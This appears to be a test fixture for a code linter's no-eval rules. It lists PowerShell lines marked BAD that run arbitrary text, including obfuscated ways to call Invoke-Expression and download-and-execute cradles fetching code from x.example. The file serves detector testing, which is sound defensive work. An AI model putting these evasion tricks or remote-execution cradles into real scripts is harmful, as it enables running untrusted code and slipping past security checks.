param([string]$Text, $Other)
iex -Command:$Text                                        # BAD no-eval/powershell-iex
iex($Text)                                                # BAD no-eval/powershell-iex
iex "$Text"                                               # BAD no-eval/powershell-iex
iex ($Text -join '')                                      # BAD no-eval/powershell-iex
"Get-Item $Text" | iex                                    # BAD no-eval/powershell-iex
,$Text | iex                                              # BAD no-eval/powershell-iex
if ($true) { iex $Text }                                  # BAD no-eval/powershell-iex
switch (1) { 1 { iex $Text } }                            # BAD no-eval/powershell-iex
while ($true) { iex $Text; break }                        # BAD no-eval/powershell-iex
for ($i=0; $i -lt 1; $i++) { iex $Text }                  # BAD no-eval/powershell-iex
@(iex $Text)                                              # BAD no-eval/powershell-iex
$h = @{ a = $(iex $Text) }                                # BAD no-eval/powershell-iex
$null = iex $Text                                         # BAD no-eval/powershell-iex
[void](iex $Text)                                         # BAD no-eval/powershell-iex
return (iex $Text)                                        # BAD no-eval/powershell-iex
$sb = [scriptblock]::Create($Text); & $sb                 # BAD no-eval/powershell-iex
$sb2 = [ScriptBlock]::Create("ls $Text"); .$sb2           # BAD no-eval/powershell-iex
$cmd = 'iex'; .$cmd $Text                                 # BAD no-eval/powershell-iex
$cmds = @('iex'); & $cmds[0] $Text                        # BAD no-eval/powershell-iex
$a,$b = 'ie','x'; & ($a+$b) $Text                         # BAD no-eval/powershell-iex
& ([string]::Concat('ie','x')) $Text                      # BAD no-eval/powershell-iex
& ('IEX'.ToLower()) $Text                                 # BAD no-eval/powershell-iex
& ('xxiexx'.Substring(2,3)) $Text                         # BAD no-eval/powershell-iex
& ('i e x' -replace ' ','') $Text                         # BAD no-eval/powershell-iex
& ('i,e,x' -split ',' -join '') $Text                     # BAD no-eval/powershell-iex
& ([regex]::Replace('iZx','Z','e')) $Text                 # BAD no-eval/powershell-iex
$r = 'xei'.ToCharArray(); [array]::Reverse($r); & (-join $r) $Text  # BAD no-eval/powershell-iex
& (gal ie?) $Text                                         # BAD no-eval/powershell-iex
& (Get-Command -Name *ke-Exp*) $Text                      # BAD no-eval/powershell-iex
$ExecutionContext.InvokeCommand.InvokeScript($false, [scriptblock]::Create($Text), $null, $null) # BAD no-eval/powershell-iex
Invoke-Command -ScriptBlock $([scriptblock]::Create($Text)) # BAD no-eval/powershell-iex
Start-ThreadJob ([scriptblock]::Create($Text))            # BAD no-eval/powershell-iex
iex (Invoke-WebRequest -Uri https://x.example/a -UseBasicParsing).Content  # BAD no-eval/powershell-iex
iex (wget https://x.example/a -UseBasicParsing)           # BAD no-eval/powershell-iex
$wc = New-Object Net.WebClient; iex $wc.DownloadString('https://x.example/a')  # BAD no-eval/powershell-iex
$code = irm https://x.example/a; Invoke-Expression $code  # BAD no-eval/powershell-iex
iex ([System.IO.File]::ReadAllText($Text))                # BAD no-eval/powershell-iex
iex (gc -Raw $Text)                                       # BAD no-eval/powershell-iex
iex $env:PAYLOAD                                          # BAD no-eval/powershell-iex
iex $input                                                # BAD no-eval/powershell-iex
iex (Read-Host)                                           # BAD no-eval/powershell-iex
iex 'Get-Date'                                            # BAD no-eval/powershell-iex
pwsh -c $Text                                             # BAD no-eval/program-text
$Text | powershell -                                      # BAD no-eval/program-text
$Text | pwsh -Command -                                   # BAD no-eval/program-text
cmd.exe /c "$Text"                                        # BAD no-eval/program-text
node -e $Text                                             # BAD no-eval/program-text
& python -c $Text                                         # BAD no-eval/program-text
Start-Process pwsh -ArgumentList "-enc bABzAA=="          # BAD no-eval/program-text
